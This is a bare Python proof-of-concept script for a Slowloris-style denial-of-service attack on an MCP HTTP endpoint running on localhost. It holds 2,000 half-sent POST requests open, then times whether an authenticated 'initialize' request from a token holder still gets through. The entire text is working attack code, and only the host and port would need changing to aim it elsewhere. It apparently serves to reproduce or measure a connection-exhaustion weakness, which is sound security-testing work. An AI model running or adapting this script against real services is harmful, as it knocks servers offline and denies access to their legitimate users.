import socket, time, urllib.request, json
cs=[]
for i in range(2000):
    s=socket.create_connection(('127.0.0.1',18820)); s.send(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: "); cs.append(s)
t=time.time()
req=urllib.request.Request('http://127.0.0.1:18820/mcp',data=json.dumps({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}).encode(),headers={'Content-Type':'application/json','Accept':'application/json, text/event-stream','Authorization':'Bearer T'})
try:
    r=urllib.request.urlopen(req,timeout=40); print("token holder", r.status, "after %.1fs"%(time.time()-t))
except Exception as e: print("token holder failed", e, "after %.1fs"%(time.time()-t))
